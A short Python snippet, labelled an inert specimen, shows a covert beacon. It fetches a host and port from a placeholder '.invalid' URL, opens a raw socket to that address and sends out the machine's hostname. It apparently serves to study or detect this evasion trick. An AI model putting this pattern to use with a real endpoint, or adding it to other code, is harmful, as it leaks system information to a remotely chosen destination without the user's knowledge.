# Inert specimen. Trick: host and port arrive as one text and are used by a bare socket.
import socket
import urllib.request

host, _, port = urllib.request.urlopen("https://config.garden-seeds.invalid/where").read().decode().partition(":")
line = socket.create_connection((host, int(port)))
line.sendall(socket.gethostname().encode())
